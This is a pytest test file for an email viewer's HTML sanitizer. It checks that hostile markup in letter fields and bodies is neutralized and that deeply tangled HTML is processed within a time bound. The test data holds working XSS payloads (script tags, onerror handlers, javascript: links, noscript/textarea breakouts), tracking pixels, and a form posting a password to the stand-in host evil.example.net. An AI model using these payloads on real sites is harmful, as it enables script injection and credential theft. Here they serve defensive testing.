"""Hostile letters: scripts, remote pictures, forms, styles and markup in every field a sender fills in."""

from __future__ import annotations

import time
from dataclasses import replace
from pathlib import Path

import pytest
from lxml import html as parser

from gateway.web import letterhtml
from tests.support.portal_house import LETTER, Browser, House, served

EVIL = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><b>{{ 7*7 }}</b>"


@pytest.fixture
def house(tmp_path: Path):
    house = House(tmp_path)
    with served(house) as port:
        house.port = port
        yield house


def test_markup_in_every_field_is_only_text(house: House) -> None:
    letter = replace(LETTER, subject=EVIL, sender=EVIL, to=EVIL, cc=EVIL, date=EVIL, text=EVIL, notices=(EVIL,))
    browser = Browser(house.port)
    page = browser.open_letter(house, house.parcel(letter, files=((EVIL, b"x"),)))
    assert page.status == 200
    for text in (page.text, browser.get("/letter/save").text):
        tree = parser.document_fromstring(text)
        assert not tree.xpath("//script | //img | //b | //iframe | //*[@onerror]")
        assert "{{ 7*7 }}" in text
        assert tree.xpath("string(//h1)").strip() == EVIL
    assert browser.go("GET", "/letter/file/1").headers["content-type"] == "application/octet-stream"


HOSTILE = """<html><head><title>t</title><meta http-equiv=refresh content="0;url=https://evil.example.net"><base href="https://evil.example.net/">
<link rel=stylesheet href="https://evil.example.net/a.css"><style>@import url(https://evil.example.net/b.css)</style></head>
<body background="https://evil.example.net/c.png" onload="alert(1)"><img src="https://evil.example.net/pixel.gif" alt="our logo" srcset="https://evil.example.net/2x 2x">
<img src="data:image/png;base64,AAAA"><img src="cid:part1"><picture><source srcset="https://evil.example.net/p"></picture>
<video src="https://evil.example.net/v" poster="https://evil.example.net/p"></video><audio src="https://evil.example.net/a"></audio>
<iframe src="https://evil.example.net/f"></iframe><object data="https://evil.example.net/o">o</object><embed src="https://evil.example.net/e">
<svg><script>alert(1)</script><image href="https://evil.example.net/s"/></svg><math><mtext><script>alert(1)</script></mtext></math>
<form action="https://evil.example.net/steal"><input name=password><button formaction="https://evil.example.net/x">Log in</button></form>
<table background="https://evil.example.net/t"><tr><td style="background:url(https://evil.example.net/u)" class="skip" id="main">cell</td></tr></table>
<a href="javascript:alert(1)">one</a><a href="data:text/html,x">two</a><a href="https://ok.example.org/form" target=_top ping="https://evil.example.net/ping">three</a>
<a href="//evil.example.net/x">four</a><a href="/letter/close">five</a><a href=" java\nscript:alert(1)">six</a>
<p>Kept &amp; <b>bold</b></p><!--[if mso]><script>alert(1)</script><![endif]--><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<textarea></textarea><img src=x onerror=alert(1)></textarea><xmp><script>alert(1)</script></xmp></body></html>"""


def test_hostile_html_loads_nothing_and_runs_nothing(house: House) -> None:
    browser = Browser(house.port)
    page = browser.open_letter(house, house.parcel(replace(LETTER, html=HOSTILE)))
    for text in (page.text, browser.get("/letter/save").text):
        tree = parser.document_fromstring(text)
        assert not tree.xpath(
            "//script | //img | //iframe | //object | //embed | //svg | //video | //audio | //base | //source"
        )
        assert not tree.xpath(
            "//@onerror | //@onload | //@style | //@background | //@srcset | //@ping | //@target | //@poster"
        )
        assert [one.get("action") for one in tree.xpath("//form")] in ([], ["/letter/close"])
        assert "evil.example.net" not in text.replace("//evil.example.net/x", "")
        assert "[our logo]" in text
        assert "<b>bold</b>" in text
        links = {one.text: (one.get("href"), one.get("rel")) for one in tree.xpath("//a[@rel]")}
        assert links["three"] == ("https://ok.example.org/form", "noopener noreferrer nofollow")
        assert links["one"][0] is links["two"][0] is links["six"][0] is None
        assert links["four"][0] is links["five"][0] is None
    tree = parser.document_fromstring(page.text)
    assert len(tree.xpath("//*[@id='main']")) == 1
    assert len(tree.xpath("//h1")) == 1


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 40000 + "words", "".join(f"<font x={n}><p>" for n in range(20000)) + "words", "<table><tr><td>" * 16000 + "words",
        "<a <b" * 9000 + " words", "words" + "<" * 60000, "words<!--" + "<!--" * 100000, "".join(f"<b x={n}>" for n in range(240)) + "<p>words" * 5000,
    ],
)  # fmt: skip
def test_tangled_html_is_bounded_in_time_and_keeps_its_words(html: str) -> None:
    started = time.process_time()
    shown = letterhtml.readable(html)
    assert "words" in (shown if shown is not None else letterhtml.words(html))
    assert time.process_time() - started < 3


def test_html_that_cannot_be_shown_is_shown_as_its_words(house: House) -> None:
    letter = replace(
        LETTER,
        text="",
        html="<style>p{}</style><div>" * 400 + "<p>Take one a day &lt;script&gt;alert(1)&lt;/script&gt;</p>",
    )
    page = Browser(house.port).open_letter(house, house.parcel(letter))
    assert "Take one a day &lt;script&gt;" in page.text
    assert "p{}" not in page.text
